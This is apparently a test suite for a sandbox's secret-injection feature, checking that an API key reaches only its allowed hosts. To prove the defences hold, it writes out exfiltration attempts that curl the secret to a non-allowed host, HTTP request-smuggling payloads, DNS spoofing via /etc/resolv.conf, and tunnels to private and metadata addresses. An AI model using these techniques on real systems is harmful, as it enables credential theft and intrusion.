import { randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { basename, join } from 'node:path';
import { text } from 'node:stream/consumers';
import { runCommand } from '@microsandbox/test-utils';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importSdk } from './support/consumer.ts';
import { pathsNaming, processesNaming } from './support/leftovers.ts';
import { netnsObstacle, PEER, type TextResult } from './support/netns.ts';
import { sandboxProcess } from './support/sandbox-process.ts';
import { searchMemory } from './support/search-memory.ts';
import { secretForms } from './support/secret-forms.ts';
import { HOSTS, receivedFile, type SecureHost } from './support/secure-hosts.ts';
import { type SecureNetwork, startSecureNetwork } from './support/secure-network.ts';
import { PROXY_FILE, PROXY_PORT } from './support/tunnel-proxy.ts';

const obstacle = netnsObstacle();
if (obstacle !== null) console.log(`skipped: ${obstacle}`);

const { Sandbox } = await importSdk();

/** Like real ones, and nowhere else in the world. */
const newValue = () => `s3cr3t-${randomBytes(24).toString('hex')}`;
const VALUE = newValue();
const NAME = `agent-${process.pid}`;
const PLACEHOLDER = '$MSB_API_KEY';

/** Hosts that the secret is for. */
const ALLOWED: readonly SecureHost[] = [HOSTS.api, HOSTS.old, HOSTS.young, HOSTS.http2];

const CURL = 'curl -sS --max-time 60';
const KEY = '-H "X-Key: $API_KEY"';
const PROXY = `http://${HOSTS.other.name}:${PROXY_PORT}`;

/** Requests about which servers do not agree, each for a path that shows when it got through. */
const TRICKS = {
  'another host': head('Host: other.example.net'),
  'two hosts': head(`Host: ${HOSTS.api.name}`, 'Host: other.example.net'),
  'another host in its target': head(`Host: ${HOSTS.api.name}`).replace(' /', ' https://other.example.net/'),
  'a space after a name': head(`Host: ${HOSTS.api.name}`, 'Host : other.example.net'),
  'a folded line': head(`Host: ${HOSTS.api.name}`, 'X-Fold: a', ' Host: other.example.net'),
  'a bare line feed': head(`Host: ${HOSTS.api.name}`, 'X-Feed: a\nHost: other.example.net'),
  'two lengths': head(`Host: ${HOSTS.api.name}`, 'Content-Length: 3', 'Content-Length: 4'),
  'length and chunks': head(`Host: ${HOSTS.api.name}`, 'Content-Length: 3', 'Transfer-Encoding: chunked'),
  'a coding that nobody knows': head(`Host: ${HOSTS.api.name}`, 'Transfer-Encoding: xchunked'),
  'chunks in chunks': head(`Host: ${HOSTS.api.name}`, 'Transfer-Encoding: chunked, chunked'),
};

function head(...lines: string[]): string {
  return ['POST /trick HTTP/1.1', ...lines, 'X-Key: $MSB_API_KEY', '', ''].join('\r\n');
}

let net: SecureNetwork;

const sh = (command: string): Promise<TextResult> => net.msb(['exec', NAME, '--', 'bash', '-c', command]);

/** Standard output of what has to succeed. */
async function must(result: Promise<TextResult>): Promise<string> {
  const { code, stdout, stderr } = await result;
  if (code !== 0) throw new Error(`exit ${code}: ${stderr}`);
  return stdout;
}

/** In the guest: a TLS connection for each request, whose pieces are sent one by one; prints what came back. */
const SPEAK_RAW = `
import json, socket, ssl, sys, time
host, requests = json.loads(sys.argv[1])
def speak(pieces):
    with ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), 60), server_hostname=host) as tls:
        try:
            for piece in pieces:
                tls.sendall(piece.encode())
                time.sleep(0.1)
            return tls.recv(4096).decode().split("\\r\\n")[0]
        except (ssl.SSLError, ConnectionError):
            return ""
print(json.dumps([speak(pieces) for pieces in requests]))
`;

/** First lines of the answers, empty where the connection ended without one. */
async function speakRaw(host: SecureHost, requests: readonly (readonly string[])[]): Promise<string[]> {
  const args = JSON.stringify([host.name, requests]);
  return JSON.parse(await must(net.msb(['exec', NAME, '--', 'python3', '-c', SPEAK_RAW, args])));
}

/** Where texts stand in files of the home (images, disks, logs, databases): names of files with what is in them. */
async function filesWith(...texts: string[]): Promise<{ readonly file: string; readonly text: string }[]> {
  // Lines that end with NUL, else it reads the holes of the disks too, gigabytes of nothing.
  const args = ['-rozaF', '-f', '-', net.made.home.path];
  const { code, stdout, stderr } = await runCommand('grep', args, { input: texts.join('\n') });
  // 1: there is none. Files come and go while it looks.
  if (code !== 0 && code !== 1 && !/No such file/.test(stderr)) throw new Error(stderr);
  const lines = stdout.toString().split('\0');
  return lines.flatMap((line) => {
    const [path = '', text] = line.split(':');
    return text === undefined ? [] : [{ file: basename(path), text }];
  });
}

/** One change over the control socket. */
async function control(change: object): Promise<unknown> {
  const sockets = await pathsNaming(join(net.made.home.path, 'run'), 'control.sock');
  const socket = connect(sockets[0] ?? '');
  socket.end(`${JSON.stringify({ op: 'secrets_update', changes: [change] })}\n`);
  return JSON.parse(await text(socket));
}

/** Files of the peer that hold one of the texts in any form. */
async function peersThatKnow(value: string): Promise<string[]> {
  const forms = secretForms(value);
  const names = (await readdir(net.folder)).filter((name) => name.endsWith('.received'));
  const contents = await Promise.all(names.map((name) => readFile(join(net.folder, name))));
  return names.filter((_, index) => forms.some((form) => contents[index]?.includes(form)));
}

/** Values go to the hosts that they are for, inside TLS, and nowhere else. */
async function expectNowhereElse(...values: string[]): Promise<void> {
  const right = ALLOWED.map((host) => receivedFile(host, 'tls'));
  for (const value of values) {
    expect((await peersThatKnow(value)).filter((name) => !right.includes(name))).toEqual([]);
  }
}

/** Everything that the proxy was told. */
const proxied = () => readFile(join(net.folder, PROXY_FILE), 'latin1').catch(() => '');

/** What the keys of the requests were, in order. */
async function keysAt(host: SecureHost, how: 'tls' | 'plain' = 'tls'): Promise<string[]> {
  return [...(await net.received(host, how)).matchAll(/x-key[": ]+([^"\r\n]+)/gi)].map(
    ([, key]) => key ?? '',
  );
}

describe.skipIf(obstacle)('a secret', () => {
  beforeAll(async () => {
    net = await startSecureNetwork();
    const secret = ['--secret', `API_KEY@${ALLOWED.map(({ name }) => name).join(',')}`];
    const bypass = ['--tls-bypass', HOSTS.bypassed.name];
    const create = [
      'create',
      '--name',
      NAME,
      ...secret,
      ...bypass,
      ...net.dns,
      ...net.trust,
      net.made.reference,
    ];
    expect(await net.msb(create, { API_KEY: VALUE })).toMatchObject({ code: 0 });
  });

  afterAll(async () => {
    await net?.msb(['rm', '--force', NAME]);
    await net?.[Symbol.asyncDispose]();
  });

  it.each([
    ['TLS 1.2 and HTTP/1.1', HOSTS.old, '--tls-max 1.2'],
    ['TLS 1.3 and HTTP/1.1', HOSTS.young, '--tlsv1.3'],
    ['TLS 1.3 and HTTP/2', HOSTS.http2, '--http2-prior-knowledge'],
  ])('arrives over %s', async (_what, host, flags) => {
    expect(await sh(`${CURL} ${flags} ${KEY} https://${host.name}/hello`)).toMatchObject({ code: 0 });
    expect(await keysAt(host)).toEqual([VALUE]);
  });

  it('arrives as a password too', async () => {
    await sh(`${CURL} -u "me:$API_KEY" https://${HOSTS.api.name}/hello`);
    const password = Buffer.from(`me:${VALUE}`).toString('base64');
    expect(await net.received(HOSTS.api)).toContain(`Authorization: Basic ${password}\r\n`);
    await expectNowhereElse(VALUE);
  });

  it.each([
    ['in a header', `${KEY} https://${HOSTS.other.name}/`],
    ['in a query', `https://${HOSTS.other.name}/?k=%24MSB_API_KEY`],
    ['as a password', `-u "me:$API_KEY" https://${HOSTS.other.name}/`],
    ['in a body', `-d '{"k":"\\u0024MSB_API_KEY"}' https://${HOSTS.other.name}/`],
    ['in chunks', `-H 'Transfer-Encoding: chunked' -d "$API_KEY" https://${HOSTS.other.name}/`],
    ['without TLS', `${KEY} http://${HOSTS.other.name}/`],
    ['after a redirect', `-L ${KEY} https://${HOSTS.api.name}/to-other`],
    ['under an allowed name', `${KEY} --connect-to ::${HOSTS.other.name}: https://${HOSTS.api.name}/`],
  ])('ends the connection to another host %s', async (_what, flags) => {
    // 52: the server said nothing.
    expect(await sh(`${CURL} ${flags}`)).toMatchObject({ code: 52 });
    expect(await net.received(HOSTS.other)).toBe('');
    expect(await net.received(HOSTS.other, 'plain')).toBe('');
    await expectNowhereElse(VALUE);
  });

  it('is a placeholder where TLS is not used or not opened', async () => {
    expect(await sh(`${CURL} -L ${KEY} https://${HOSTS.api.name}/to-plain`)).toMatchObject({ code: 0 });
    expect(await keysAt(HOSTS.api, 'plain')).toEqual([PLACEHOLDER]);
    expect(await sh(`${CURL} -k ${KEY} https://${HOSTS.bypassed.name}/hello`)).toMatchObject({ code: 0 });
    expect(await keysAt(HOSTS.bypassed)).toEqual([PLACEHOLDER]);
    await expectNowhereElse(VALUE);
  });

  it('is not had by who says to be the host', async () => {
    const asked = `echo nameserver ${HOSTS.liar.address} > /etc/resolv.conf; ${CURL} ${KEY} https://${HOSTS.api.name}/`;
    const kept = await sh(
      `cp /etc/resolv.conf /tmp/; ${asked}; code=$?; cat /tmp/resolv.conf > /etc/resolv.conf; exit $code`,
    );
    expect(kept.code).not.toBe(0);
    expect(await net.received(HOSTS.liar)).toBe('');
  });

  it('arrives through a proxy, which learns the placeholder at most', async () => {
    expect(await sh(`https_proxy=${PROXY} ${CURL} ${KEY} https://${HOSTS.api.name}/proxied`)).toMatchObject({
      code: 0,
    });
    expect(await keysAt(HOSTS.api)).toContain(VALUE);
    expect(await net.received(HOSTS.api)).toContain('GET /proxied HTTP/1.1\r\n');
    // Nobody looks into a tunnel to another port.
    expect(await sh(`${CURL} -p -x ${PROXY} ${KEY} http://${HOSTS.api.name}/proxied`)).toMatchObject({
      code: 0,
    });
    expect((await keysAt(HOSTS.api, 'plain')).at(-1)).toBe(PLACEHOLDER);
    expect(await proxied()).toContain(`CONNECT ${HOSTS.api.name}:443 HTTP/1.1\r\n`);
    await expectNowhereElse(VALUE);
  });

  it.each([
    ['to another host', `${KEY} https://${HOSTS.other.name}/`],
    [
      'to a host that is not the one of TLS',
      `--connect-to ::${HOSTS.other.name}: https://${HOSTS.api.name}/`,
    ],
    ['to a private address', `--connect-to ::${PEER.private}: https://${HOSTS.api.name}/`],
    ['to the metadata service', `--connect-to ::${PEER.metadata}: https://${HOSTS.api.name}/`],
    ['to the host', 'https://host.microsandbox.internal/'],
    ['to an address without a name', `https://${HOSTS.api.address}/`],
  ])('ends a tunnel %s', async (_what, flags) => {
    expect((await sh(`${CURL} -k -x ${PROXY} ${flags}`)).code).not.toBe(0);
    expect(await net.received(HOSTS.other)).toBe('');
    await expectNowhereElse(VALUE);
  });

  it('does not go to a proxy as a header of its own', async () => {
    const before = await proxied();
    const header = '--proxy-header "X-Key: $API_KEY"';
    expect((await sh(`${CURL} -x ${PROXY} ${header} https://${HOSTS.api.name}/`)).code).not.toBe(0);
    expect(await proxied()).toBe(before);
  });

  it('does not go out in requests that servers read in different ways', async () => {
    const answers = await speakRaw(
      HOSTS.api,
      Object.values(TRICKS).map((request) => [request]),
    );
    const passed = Object.keys(TRICKS).filter((_, index) => answers[index] !== '');
    expect(passed).toEqual([]);
    expect(answers).toHaveLength(Object.keys(TRICKS).length);
    expect(await net.received(HOSTS.api)).not.toContain('/trick');
  });

  it('is found in pieces, and put together for its host only', async () => {
    const request = (host: SecureHost) => [
      `GET /pieces HTTP/1.1\r\nConnection: close\r\nHost: ${host.name}\r\nX-Key: $MSB_`,
      'API_KEY\r\n\r\n',
    ];
    expect(await speakRaw(HOSTS.other, [request(HOSTS.other)])).toEqual(['']);
    expect(await speakRaw(HOSTS.api, [request(HOSTS.api)])).toEqual(['HTTP/1.1 404 Not Found']);
    expect((await keysAt(HOSTS.api)).at(-1)).toBe(VALUE);
    expect(await net.received(HOSTS.other)).toBe('');
    await expectNowhereElse(VALUE);
  });

  it('is nowhere in the guest, nor in a file, argument or variable of the host', async () => {
    await must(sh('echo "$API_KEY" > /root/kept; sync'));
    const secret = secretForms(VALUE);
    const [monitor = 0, ...others] = await processesNaming(
      `${net.made.home.path}/sandboxes/${NAME}/upper.ext4`,
    );
    expect(others).toEqual([]);
    const all = await processesNaming(`microsandbox ${NAME}`);
    expect(all).toHaveLength(2);

    // The monitor's memory is that of the guest too. The placeholder shows that the search finds what is there, and
    // the value that it finds a value: the process that fills it in has it.
    const needles = [PLACEHOLDER, ...secret].map((form) => Buffer.from(form));
    expect(await searchMemory(monitor, needles)).toEqual([0]);
    const keeper = await sandboxProcess(net.made.home.path, NAME);
    expect(await searchMemory(keeper, needles)).toEqual(expect.arrayContaining([0, 1]));

    const found = await filesWith(PLACEHOLDER, ...secret);
    expect(found.map(({ file }) => file)).toEqual(expect.arrayContaining(['upper.ext4', 'runtime.log']));
    expect(found.filter((one) => one.text !== PLACEHOLDER)).toEqual([]);

    for (const form of secret) expect(await processesNaming(form)).toEqual([]);
    const variables = await Promise.all(all.map((pid) => readFile(`/proc/${pid}/environ`, 'latin1')));
    expect(variables.filter((text) => secret.some((form) => text.includes(form)))).toEqual([]);
    expect(variables.filter((text) => text.includes('PATH='))).not.toEqual([]);
  });

  it('is replaced, given other hosts and taken away while the sandbox runs', async () => {
    const asking = (host: SecureHost) => sh(`${CURL} ${KEY} https://${host.name}/hello`);
    const latest = async (host: SecureHost) => (await keysAt(host)).at(-1);

    const second = newValue();
    await must(net.msb(['modify', NAME, '--secret', `API_KEY@${HOSTS.api.name}`], { API_KEY: second }));
    await must(asking(HOSTS.api));
    expect(await latest(HOSTS.api)).toBe(second);
    expect((await asking(HOSTS.young)).code).toBe(52);

    const third = newValue();
    expect(await control({ change: 'rotate', name: 'API_KEY', value: third })).toEqual({ ok: true });
    const hosts = [HOSTS.young.name];
    expect(await control({ change: 'set_allowed_hosts', name: 'API_KEY', hosts })).toEqual({ ok: true });
    await must(asking(HOSTS.young));
    expect(await latest(HOSTS.young)).toBe(third);
    expect((await asking(HOSTS.api)).code).toBe(52);
    expect(await filesWith(...secretForms(second), ...secretForms(third))).toEqual([]);

    const fourth = newValue();
    const handle = await Sandbox.get(NAME);
    await handle.modify({ secrets: { API_KEY: { value: fourth, allowedHosts: [HOSTS.api.name] } } });
    await must(asking(HOSTS.api));
    expect(await latest(HOSTS.api)).toBe(fourth);

    await must(net.msb(['modify', NAME, '--secret-rm', 'API_KEY']));
    await must(asking(HOSTS.api));
    expect(await latest(HOSTS.api)).toBe(PLACEHOLDER);
    await expectNowhereElse(VALUE, second, third, fourth);
  });
});
